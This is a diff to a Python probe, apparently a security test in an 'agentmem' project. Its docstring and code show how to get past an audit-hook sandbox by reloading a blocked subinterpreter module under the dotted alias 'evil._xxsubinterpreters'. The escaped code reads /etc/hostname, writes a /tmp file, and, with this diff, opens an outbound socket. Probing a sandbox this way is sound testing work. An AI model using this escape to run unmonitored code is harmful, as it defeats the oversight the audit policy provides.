@@ -4,7 +4,7 @@ Audit hooks added with sys.addaudithook belong to one interpreter. ``_xxsubinter
 blocked import, but an extension module loads again under a dotted alias ("evil._xxsubinterpreters":
 the audit event names "evil"; the init function is found by the last component), and creating an
 interpreter raises only "cpython.PyInterpreterState_New", which the policy does not deny. Code run
-there reads and writes anything the process can reach, with nothing denied or reported.
+there reads and writes anything the process can reach and opens sockets, with nothing denied or reported.
 """
 import importlib.machinery
 import importlib.util
@@ -20,6 +20,8 @@ from agentmem.types import Recall, RecallItem
 class Params(BaseModel):
     secret: str = "/etc/hostname"
     target: str = "/tmp/agentmem-evil.txt"
+    host: str = ""  # a TCP service to reach (the network), if any
+    port: int = 0
 
 
 def _interpreters():
@@ -50,6 +52,13 @@ try:
     got.append("wrote target")
 except OSError as exc:
     got.append(repr(exc))
+if {self.params.host!r}:
+    import socket
+    try:
+        socket.create_connection(({self.params.host!r}, {self.params.port}), timeout=2).close()
+        got.append("connected")
+    except OSError as exc:
+        got.append(repr(exc))
 open({out!r}, "w").write(" | ".join(got))
 """
         interpreters.run_string(interp, code)
